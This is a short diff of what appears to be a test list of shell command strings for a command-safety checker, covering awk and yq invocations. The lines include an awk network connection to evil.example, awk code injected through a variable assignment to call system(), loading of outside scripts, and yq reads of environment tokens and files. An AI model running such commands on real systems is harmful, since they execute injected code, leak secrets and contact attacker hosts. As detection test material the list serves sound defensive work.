@@ -18,7 +18,7 @@ LANGUAGES = r"""
     awk '{ print 1 }' /inet/tcp/0/evil.example/80
     awk 1 f -f evil.awk
     awk -v x={a,'BEGIN{system("id")}'} 1 f
-    for f in 'a BEGIN{x}'; do awk -v $f 1; done
+    for f in 'a BEGIN{system(1)}'; do awk -v $f 1; done
     yq '"${TOKEN}" | envsubst' f
     yq 'strload("x")' f
     yq '.a = load("x")' f
